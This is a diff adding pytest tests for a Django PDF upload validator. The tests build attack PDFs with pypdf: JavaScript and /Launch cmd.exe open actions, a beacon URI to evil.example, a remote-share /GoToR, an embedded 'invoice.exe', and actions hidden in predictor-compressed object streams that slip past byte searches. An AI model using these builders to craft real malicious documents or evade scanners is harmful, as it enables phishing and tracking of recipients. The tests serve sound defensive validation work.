@@ -7,6 +7,16 @@ import pytest
 from django.core.exceptions import ValidationError
 from django.core.files.uploadedfile import SimpleUploadedFile
 from PIL import Image, ImageCms, ImageFile, PngImagePlugin
+from pypdf import PdfReader, PdfWriter
+from pypdf.actions import JavaScript
+from pypdf.generic import (
+    ArrayObject,
+    DecodedStreamObject,
+    DictionaryObject,
+    NameObject,
+    NumberObject,
+    TextStringObject,
+)
 
 from proposals.uploads import (
     MAX_FILENAME_LENGTH,
@@ -570,3 +580,232 @@ def test_animated_png_keeps_only_its_first_frame():
     with _reopen(cleaned) as im:
         assert getattr(im, "n_frames", 1) == 1
         assert im.convert("RGB").getpixel((0, 0)) == (255, 0, 0)
+
+
+# --- Attack PDFs built with pypdf: what a viewer runs, the check must see ----------------------
+
+
+def _pypdf_document(*, page_extra=None, catalog_extra=None, annotations=()):
+    """A one-page PDF written by pypdf, with extra entries on its page and its catalogue."""
+    writer = PdfWriter()
+    page = writer.add_blank_page(width=595, height=842)
+    for key, value in (page_extra or {}).items():
+        page[NameObject(key)] = value
+    for key, value in (catalog_extra or {}).items():
+        writer._root_object[NameObject(key)] = value
+    if annotations:
+        page[NameObject("/Annots")] = ArrayObject(writer._add_object(a) for a in annotations)
+    out = io.BytesIO()
+    writer.write(out)
+    return out.getvalue()
+
+
+def _action(kind, **entries):
+    action = DictionaryObject({NameObject("/S"): NameObject(kind)})
+    for key, value in entries.items():
+        action[NameObject(f"/{key}")] = value
+    return action
+
+
+def _serialise(obj):
+    out = io.BytesIO()
+    obj.write_to_stream(out)
+    return out.getvalue()
+
+
+def _png_predicted(data, columns):
+    """Flate with the PNG 'None' predictor: a 0 byte before every row of `columns` bytes."""
+    data += b" " * (-len(data) % columns)
+    rows = (b"\x00" + data[i : i + columns] for i in range(0, len(data), columns))
+    return zlib.compress(b"".join(rows))
+
+
+def _pdf_with_object_stream(hidden_action, columns=3):
+    """The catalogue's /OpenAction is object 4, which lives compressed in object stream 5.
+
+    The stream is Flate with a PNG predictor (as writers use for cross-reference streams), so the
+    inflated bytes have a 0 byte every few characters; the file has a cross-reference stream.
+    """
+    member = b"4 0 "
+    body = _png_predicted(member + _serialise(hidden_action), columns)
+    objects = {
+        1: b"<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>",
+        2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
+        3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>",
+        5: b"<< /Type /ObjStm /N 1 /First %d /Length %d /Filter /FlateDecode "
+        b"/DecodeParms << /Predictor 12 /Columns %d >> >>\nstream\n"
+        % (len(member), len(body), columns)
+        + body
+        + b"\nendstream",
+    }
+    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
+    offsets = {}
+    for number, text in objects.items():
+        offsets[number] = len(out)
+        out += b"%d 0 obj\n" % number + text + b"\nendobj\n"
+    offsets[6] = len(out)
+    rows = [struct.pack(">BIH", 0, 0, 65535)]
+    for number in range(1, 7):
+        if number == 4:
+            rows.append(struct.pack(">BIH", 2, 5, 0))  # compressed: in stream 5, index 0
+        else:
+            rows.append(struct.pack(">BIH", 1, offsets[number], 0))
+    xref = b"".join(rows)
+    out += (
+        b"6 0 obj\n<< /Type /XRef /Size 7 /W [1 4 2] /Root 1 0 R /Length %d >>\nstream\n"
+        % len(xref)
+        + xref
+        + b"\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % offsets[6]
+    )
+    return bytes(out)
+
+
+def _embedded_file_annotation():
+    """A file attachment on the page: the file stream carries no /Type (it is optional)."""
+    payload = DecodedStreamObject()
+    payload.set_data(b"MZ\x90\x00 a program")
+    spec = DictionaryObject(
+        {
+            NameObject("/Type"): NameObject("/Filespec"),
+            NameObject("/F"): TextStringObject("invoice.exe"),
+            NameObject("/EF"): DictionaryObject({NameObject("/F"): payload}),
+        }
+    )
+    return DictionaryObject(
+        {
+            NameObject("/Type"): NameObject("/Annot"),
+            NameObject("/Subtype"): NameObject("/FileAttachment"),
+            NameObject("/Rect"): ArrayObject([NumberObject(n) for n in (10, 10, 30, 30)]),
+            NameObject("/FS"): spec,
+        }
+    )
+
+
+def _with_pypdf_javascript():
+    writer = PdfWriter()
+    writer.add_blank_page(width=595, height=842)
+    writer.add_open_action(JavaScript("app.alert('hi');"))
+    out = io.BytesIO()
+    writer.write(out)
+    return out.getvalue()
+
+
+def _with_pypdf_attachment():
+    writer = PdfWriter()
+    writer.add_blank_page(width=595, height=842)
+    writer.add_attachment("invoice.exe", b"MZ\x90\x00 a program")
+    out = io.BytesIO()
+    writer.write(out)
+    return out.getvalue()
+
+
+def _beacon():
+    return _action("/URI", URI=TextStringObject("https://evil.example/seen"))
+
+
+ACTIVE_PDFS = {
+    # Each of these went through the earlier byte search unnoticed.
+    "page-aa-link-on-open": lambda: _pypdf_document(
+        page_extra={"/AA": DictionaryObject({NameObject("/O"): _beacon()})}
+    ),
+    "open-action-submit-form": lambda: _pypdf_document(
+        catalog_extra={"/OpenAction": _action("/SubmitForm", F=TextStringObject("https://e.x/"))}
+    ),
+    "open-action-import-data": lambda: _pypdf_document(
+        catalog_extra={"/OpenAction": _action("/ImportData", F=TextStringObject("x.fdf"))}
+    ),
+    "open-action-remote-file": lambda: _pypdf_document(
+        catalog_extra={"/OpenAction": _action("/GoToR", F=TextStringObject(r"\\evil\share\x.pdf"))}
+    ),
+    "link-javascript-uri": lambda: _pypdf_document(
+        annotations=[
+            DictionaryObject(
+                {
+                    NameObject("/Type"): NameObject("/Annot"),
+                    NameObject("/Subtype"): NameObject("/Link"),
+                    NameObject("/Rect"): ArrayObject([NumberObject(n) for n in (0, 0, 9, 9)]),
+                    NameObject("/A"): _action("/URI", URI=TextStringObject("javascript:alert(1)")),
+                }
+            )
+        ]
+    ),
+    "embedded-file-annotation": lambda: _pypdf_document(annotations=[_embedded_file_annotation()]),
+    "javascript-in-predicted-object-stream": lambda: _pdf_with_object_stream(
+        _action("/JavaScript", JS=TextStringObject("app.alert(1)"))
+    ),
+    "launch-in-predicted-object-stream": lambda: _pdf_with_object_stream(
+        _action("/Launch", F=TextStringObject("cmd.exe"))
+    ),
+    # These the byte search caught too; they stay refused.
+    "pypdf-open-action-javascript": _with_pypdf_javascript,
+    "pypdf-add-attachment": _with_pypdf_attachment,
+    "page-aa-javascript": lambda: _pypdf_document(
+        page_extra={
+            "/AA": DictionaryObject(
+                {NameObject("/O"): _action("/JavaScript", JS=TextStringObject("app.alert(1)"))}
+            )
+        }
+    ),
+}
+
+
+@pytest.mark.parametrize("name", ACTIVE_PDFS)
+def test_refuses_active_content_a_viewer_would_find(name):
+    content = ACTIVE_PDFS[name]()
+    assert PdfReader(io.BytesIO(content)).pages  # a PDF a viewer opens
+
+    error = _refused("pdf_active_content", clean_pdf, _upload("x.pdf", content))
+
+    assert "scripts" in str(error.message)
+
+
+def test_object_stream_attack_is_read_by_a_viewer_as_a_script():
+    content = _pdf_with_object_stream(_action("/JavaScript", JS=TextStringObject("app.alert(1)")))
+    open_action = PdfReader(io.BytesIO(content)).trailer["/Root"]["/OpenAction"]
+    assert open_action["/S"] == "/JavaScript"
+    assert b"JavaScript" not in zlib.decompress(
+        content.split(b"stream\n")[1].split(b"\nendstream")[0]
+    )
+
+
+@pytest.mark.parametrize(
+    "content",
+    [
+        pytest.param(
+            _pypdf_document(
+                catalog_extra={"/OpenAction": ArrayObject([NumberObject(0), NameObject("/Fit")])}
+            ),
+            id="open-at-first-page",
+        ),
+        pytest.param(
+            _pdf_with_object_stream(
+                _action("/GoTo", D=ArrayObject([NumberObject(0), NameObject("/Fit")]))
+            ),
+            id="goto-in-predicted-object-stream",
+        ),
+        pytest.param(
+            _pypdf_document(
+                annotations=[
+                    DictionaryObject(
+                        {
+                            NameObject("/Type"): NameObject("/Annot"),
+                            NameObject("/Subtype"): NameObject("/Link"),
+                            NameObject("/Rect"): ArrayObject([NumberObject(0)] * 4),
+                            NameObject("/A"): _action(
+                                "/URI", URI=TextStringObject("https://kk.dk/borgerbudget")
+                            ),
+                        }
+                    )
+                ]
+            ),
+            id="web-link",
+        ),
+    ],
+)
+def test_ordinary_documents_with_navigation_and_links_are_accepted(content):
+    assert clean_pdf(_upload("plan.pdf", content)).content == content
+
+
+def test_refuses_a_pdf_the_parser_cannot_read():
+    content = b"%PDF-1.7\n1 0 obj\n<< /Type /Catalog /Pages 9 0 R\nendobj\ntrailer\n<<>>\n%%EOF\n"
+    _refused("pdf_corrupt", clean_pdf, _upload("x.pdf", content))
